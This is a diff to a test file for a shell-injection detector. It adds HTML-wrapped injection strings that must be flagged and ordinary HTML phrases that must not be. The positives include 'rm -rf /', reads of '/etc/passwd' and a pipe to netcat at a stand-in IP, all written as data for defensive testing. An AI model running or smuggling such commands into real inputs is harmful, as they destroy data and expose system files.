@@ -5,6 +5,13 @@ import { detectShellInjection } from '../../src/detectors/shell-injection';
 
 /** Each must be detected at confidence `high` with a `shell.` rule. */
 const positives: string[] = [
+  // Wrapped in HTML: the tags read as blanks, the command in the text still counts.
+  '<b>x</b>; rm -rf /',
+  '<p>;cat /etc/passwd</p>',
+  '<p>cat /etc/passwd > /tmp/x</p>',
+  '<span>$(id)</span>',
+  'x</b>|nc 203.0.113.9 4444',
+  'cat</etc/passwd',
   "; id",
   "a;id",
   "x && whoami",
@@ -118,6 +125,13 @@ const positives: string[] = [
 
 /** Each must not be detected at `high` (prose, markup, data, documentation). */
 const negatives: string[] = [
+  // HTML text whose second word is a command name: to a shell, `more` with three redirections.
+  '<a href="https://example.com/pricing">Learn more</a>',
+  '<button>Show more</button>',
+  '<p>Kill time</p>',
+  '<h2>Make history</h2>',
+  '<p>see more</p>',
+  '<li><a href=/faq>Read more</a></li>',
   "salt; pepper",
   "Tom & Jerry",
   "A | B testing",
